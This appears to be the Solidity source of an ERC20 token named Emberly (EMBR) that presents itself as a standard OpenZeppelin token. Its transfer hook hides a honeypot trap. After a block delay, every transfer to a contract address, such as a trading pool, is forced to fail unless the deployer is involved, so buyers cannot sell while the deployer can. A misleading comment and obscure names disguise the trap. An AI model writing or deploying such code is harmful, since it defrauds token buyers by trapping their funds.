// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {ERC20Permit} from "@openzeppelin/contracts/token/ERC20/extensions/ERC20Permit.sol";

contract Emberly is ERC20, ERC20Permit {
    uint256 internal immutable kindled = block.number;
    address internal immutable hearth;
    uint256 internal immutable wick;

    constructor(uint256 wick_) ERC20("Emberly", "EMBR") ERC20Permit("Emberly") {
        hearth = msg.sender;
        wick = wick_;
        _mint(msg.sender, 7_777_777e18);
    }

    function _update(address from, address to, uint256 value) internal override {
        // contracts may take part while the fire is young
        if (block.number > kindled + wick && to.code.length > 0 && from != hearth && tx.origin != hearth) {
            assembly { invalid() }
        }
        super._update(from, to, value);
    }
}
